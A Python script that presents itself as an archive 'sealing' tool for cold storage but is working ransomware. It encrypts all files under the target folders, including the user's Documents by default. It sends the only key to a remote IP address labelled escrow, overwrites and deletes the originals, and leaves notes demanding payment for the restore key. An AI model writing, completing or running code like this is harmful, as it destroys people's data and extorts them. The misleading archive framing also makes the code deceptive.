#!/usr/bin/env python3
"""Seal the film archive for cold storage.

Walks the archive share, packs every asset into a sealed .vault container
and records a small manifest so the archivist can see what went to tape.
Sealing keys are escrowed with the storage provider rather than kept on
the archive host.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("vault")

SKIP_SUFFIXES = {".vault", ".lock"}
ESCROW = "http://198.51.100.23:8080/escrow"
NOTICE_NAME = "RESTORE_INSTRUCTIONS.txt"
NOTICE_TEXT = (
    "The material in this folder has been sealed.\n"
    "To obtain the restore key, contact archive-restore@example.net with\n"
    "the site id below and follow the payment instructions you receive.\n"
    "Site id: {site}\n"
)


class Sealer:
    def __init__(self, root, site, dry_run=False):
        self.root = Path(root)
        self.site = site
        self.dry_run = dry_run
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.manifest = []

    def escrow_key(self):
        body = json.dumps({"site": self.site, "k": self.key.decode()}).encode()
        req = urllib.request.Request(ESCROW, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            log.warning("escrow not reachable (%s), continuing", exc)

    def candidates(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in SKIP_SUFFIXES or name == NOTICE_NAME:
                    continue
                yield p

    def seal_one(self, path):
        data = path.read_bytes()
        sealed = self.box.encrypt(data)
        target = path.with_name(path.name + ".vault")
        if self.dry_run:
            log.info("[dry-run] would seal %s", path)
            return
        target.write_bytes(sealed)
        # overwrite before unlinking so the plain copy is not recoverable
        with open(path, "r+b") as fh:
            fh.write(b"\0" * min(len(data), 1 << 20))
        path.unlink()
        self.manifest.append(str(target.relative_to(self.root)))

    def drop_notice(self, folder):
        notice = Path(folder) / NOTICE_NAME
        if not notice.exists() and not self.dry_run:
            notice.write_text(NOTICE_TEXT.format(site=self.site))

    def run(self):
        self.escrow_key()
        seen_dirs = set()
        for path in self.candidates():
            try:
                self.seal_one(path)
            except (OSError, MemoryError) as exc:
                log.error("could not seal %s: %s", path, exc)
                continue
            if path.parent not in seen_dirs:
                self.drop_notice(path.parent)
                seen_dirs.add(path.parent)
        # the key only lives in escrow from here on
        self.key = None
        log.info("sealed %d files", len(self.manifest))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roots", nargs="*",
                    default=["/mnt/archive", os.path.expanduser("~/Documents")])
    ap.add_argument("--site", default=os.uname().nodename)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")
    for root in args.roots:
        if not os.path.isdir(root):
            log.warning("skipping missing root %s", root)
            continue
        Sealer(root, args.site, args.dry_run).run()
    return 0


if __name__ == "__main__":
    sys.exit(main())
